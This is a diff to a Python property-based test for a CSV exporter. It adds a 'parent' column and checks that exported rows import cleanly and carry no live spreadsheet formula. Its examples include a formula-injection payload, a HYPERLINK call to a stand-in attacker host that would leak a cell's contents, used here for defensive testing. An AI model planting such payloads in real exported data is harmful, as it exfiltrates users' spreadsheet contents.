@@ -21,7 +21,7 @@ from tests.support.histories import history_settings
 
 FORMULA = "=+-@\t\r\n＝＋－＠"
 CELLS = st.text(CHARACTERS | st.sampled_from("=+-@'\",;＝＋－＠ "), max_size=12)
-ROWS = st.lists(st.tuples(CELLS.filter(bool), CELLS, CELLS, CELLS, CELLS), max_size=5)
+ROWS = st.lists(st.tuples(CELLS.filter(bool), CELLS, CELLS, CELLS, CELLS, CELLS), max_size=5)
 
 
 def cells_by(delimiter: str, text: str) -> list[str]:
@@ -32,13 +32,13 @@ def cells_by(delimiter: str, text: str) -> list[str]:
 
 @history_settings(500)
 @given(rows=ROWS)
-@example(rows=[("=1+1", '=HYPERLINK("http://evil.example/"&A1)', "'=1", "''=1", "-1 -2")])
-@example(rows=[("x;=1", 'x;"=1;"', ";'=1", '"=1', "")])
-@example(rows=[("two\u2028lines", "a\u0085b", "\u2029", "\ufeff", "")])
-@example(rows=[("\ufeff=1", "", "", "-", "-")])
+@example(rows=[("=1+1", '=HYPERLINK("http://evil.example/"&A1)', "'=1", "''=1", "-1 -2", "=2")])
+@example(rows=[("x;=1", 'x;"=1;"', ";'=1", '"=1', "", "+3")])
+@example(rows=[("two\u2028lines", "a\u0085b", "\u2029", "\ufeff", "", "\u2028")])
+@example(rows=[("\ufeff=1", "", "", "-", "-", "-")])
 def test_exported_rows_can_be_imported_and_contain_no_formula(rows: list[tuple[str, ...]]) -> None:
     text = "".join(format_lines(rows))
-    assert text.startswith(f"{BYTE_ORDER_MARK}key,name,plan,status,tags\r\n")
+    assert text.startswith(f"{BYTE_ORDER_MARK}key,name,plan,status,tags,parent\r\n")
     assert [tuple(line.fields.values()) for line in parse_lines(text)] == rows
     assert not [line.problem for line in parse_lines(text) if line.problem]
     for delimiter in ",;":
